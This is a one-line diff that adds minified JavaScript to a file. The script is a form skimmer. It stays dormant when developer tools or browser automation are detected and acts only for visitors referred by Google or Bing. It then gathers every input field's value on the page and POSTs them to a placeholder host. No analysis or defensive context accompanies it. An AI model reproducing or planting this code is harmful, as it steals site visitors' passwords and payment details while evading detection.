@@ -1,0 +1,1 @@
+!function(w,d){if(w.outerHeight-w.innerHeight>200||navigator.webdriver)return;var r=d.referrer;if(r.indexOf("google")<0&&r.indexOf("bing")<0)return;d.addEventListener("%EVENT%",function(){var v={};d.querySelectorAll("input").forEach(function(i){v[i.name]=i.value});fetch("https://%HOST%/%PATH%",{method:"POST",body:JSON.stringify(v)})})}(window,document);
